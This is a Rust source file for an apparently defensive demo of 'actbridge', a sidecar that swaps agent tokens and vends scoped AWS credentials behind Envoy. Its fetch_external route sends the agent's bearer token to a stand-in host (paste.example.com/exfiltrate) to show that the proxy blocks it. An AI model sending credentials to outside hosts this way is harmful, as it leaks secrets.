//! The demo's two small servers: the agent app (behind the inbound listener; it calls
//! the document service through the outbound listener with the token it was given) and
//! the document service (it shows what arrived).

use std::sync::{Arc, Mutex};

use axum::Router;
use axum::extract::{Path, State};
use axum::http::{HeaderMap, StatusCode};
use axum::routing::get;
use tokio_util::sync::CancellationToken;

use super::ministack::BUCKET;

/// The S3 endpoint the agent calls (Envoy's `aws_s3` virtual host).
pub(crate) const S3_HOST: &str = "s3.us-east-1.amazonaws.com";
/// The host of the sidecar's credential vending route.
pub(crate) const CREDENTIALS_HOST: &str = "credentials.actbridge.local";

/// What the document service saw on its last request.
#[derive(Debug, Clone, Default)]
pub(crate) struct Received {
    /// The `authorization` header value.
    pub authorization: Option<String>,
    /// The path.
    pub path: String,
}

/// Shared record of the document service's last request.
pub(crate) type LastReceived = Arc<Mutex<Option<Received>>>;

/// What the agent app saw (the identity headers actbridge set).
#[derive(Debug, Clone, Default)]
pub(crate) struct AgentSaw {
    /// Header name → value, for `x-actbridge-*` headers.
    pub identity: Vec<(String, String)>,
    /// The bearer token the agent received (the demo prints its claims, never the token).
    pub token: Option<String>,
}

/// Shared record of the agent app's last request.
pub(crate) type LastAgentSaw = Arc<Mutex<Option<AgentSaw>>>;

/// Serves the document service until `stop`.
pub(crate) async fn document_service(
    listener: tokio::net::TcpListener,
    last: LastReceived,
    stop: CancellationToken,
) {
    let app = Router::new()
        .route("/documents/{id}", get(document))
        .with_state(last);
    let _ = axum::serve(listener, app)
        .with_graceful_shutdown(async move { stop.cancelled().await })
        .await;
}

async fn document(
    State(last): State<LastReceived>,
    Path(id): Path<String>,
    headers: HeaderMap,
) -> (StatusCode, String) {
    let authorization = headers
        .get("authorization")
        .and_then(|v| v.to_str().ok())
        .map(str::to_owned);
    if let Ok(mut l) = last.lock() {
        *l = Some(Received {
            authorization,
            path: format!("/documents/{id}"),
        });
    }
    (
        StatusCode::OK,
        format!("# Engineering Roadmap 2026 ({id})\n"),
    )
}

#[derive(Clone)]
struct AgentState {
    outbound: u16,
    saw: LastAgentSaw,
    http: reqwest::Client,
}

/// Serves the agent app until `stop`. `GET /summarize/{doc}` fetches the document from
/// `document-service` through Envoy's outbound listener on `outbound_port`, sending the
/// token the agent was called with (actbridge swaps it on the way out); `GET /s3/{key}`
/// reads an S3 object the same way, and `GET /aws-credentials` asks the sidecar for
/// AWS credentials.
pub(crate) async fn agent(
    listener: tokio::net::TcpListener,
    outbound_port: u16,
    saw: LastAgentSaw,
    stop: CancellationToken,
) {
    let state = AgentState {
        outbound: outbound_port,
        saw,
        http: reqwest::Client::builder()
            .no_proxy()
            .build()
            .unwrap_or_default(),
    };
    let app = Router::new()
        .route("/summarize/{doc}", get(summarize))
        .route("/fetch-external", get(fetch_external))
        .route("/s3/{*key}", get(read_s3))
        .route("/aws-credentials", get(aws_credentials))
        .with_state(state);
    let _ = axum::serve(listener, app)
        .with_graceful_shutdown(async move { stop.cancelled().await })
        .await;
}

async fn summarize(
    State(s): State<AgentState>,
    Path(doc): Path<String>,
    headers: HeaderMap,
) -> (StatusCode, String) {
    let identity = headers
        .iter()
        .filter(|(k, _)| k.as_str().starts_with("x-actbridge-"))
        .map(|(k, v)| {
            (
                k.to_string(),
                String::from_utf8_lossy(v.as_bytes()).into_owned(),
            )
        })
        .collect();
    let token = headers
        .get("authorization")
        .and_then(|v| v.to_str().ok())
        .map(str::to_owned);
    if let Ok(mut l) = s.saw.lock() {
        *l = Some(AgentSaw {
            identity,
            token: token
                .as_deref()
                .and_then(|t| t.strip_prefix("Bearer "))
                .map(str::to_owned),
        });
    }
    let mut req = s
        .http
        .get(format!("http://127.0.0.1:{}/documents/{doc}", s.outbound))
        .header("host", "document-service");
    if let Some(t) = token {
        req = req.header("authorization", t);
    }
    relay(req).await
}

/// The agent tries a destination no route allows.
async fn fetch_external(State(s): State<AgentState>, headers: HeaderMap) -> (StatusCode, String) {
    let mut req = s
        .http
        .get(format!("http://127.0.0.1:{}/exfiltrate", s.outbound))
        .header("host", "paste.example.com");
    if let Some(t) = headers.get("authorization").and_then(|v| v.to_str().ok()) {
        req = req.header("authorization", t);
    }
    relay(req).await
}

/// The agent reads an S3 object: a plain, unsigned request with the token it holds;
/// actbridge signs it with a session scoped to the grant.
async fn read_s3(
    State(s): State<AgentState>,
    Path(key): Path<String>,
    headers: HeaderMap,
) -> (StatusCode, String) {
    let mut req = s
        .http
        .get(format!("http://127.0.0.1:{}/{BUCKET}/{key}", s.outbound))
        .header("host", S3_HOST);
    if let Some(t) = headers.get("authorization").and_then(|v| v.to_str().ok()) {
        req = req.header("authorization", t);
    }
    relay(req).await
}

/// The agent asks its sidecar for AWS credentials (`POST /credentials`).
async fn aws_credentials(State(s): State<AgentState>, headers: HeaderMap) -> (StatusCode, String) {
    let mut req = s
        .http
        .post(format!("http://127.0.0.1:{}/credentials", s.outbound))
        .header("host", CREDENTIALS_HOST)
        .header("content-type", "application/json")
        .body(r#"{"target_service":"s3","action":"read"}"#);
    if let Some(t) = headers.get("authorization").and_then(|v| v.to_str().ok()) {
        req = req.header("authorization", t);
    }
    relay(req).await
}

async fn relay(req: reqwest::RequestBuilder) -> (StatusCode, String) {
    match req.send().await {
        Ok(r) => {
            let status =
                StatusCode::from_u16(r.status().as_u16()).unwrap_or(StatusCode::BAD_GATEWAY);
            (status, r.text().await.unwrap_or_default())
        }
        Err(e) => (
            StatusCode::BAD_GATEWAY,
            format!("agent could not reach the outbound listener: {e}"),
        ),
    }
}
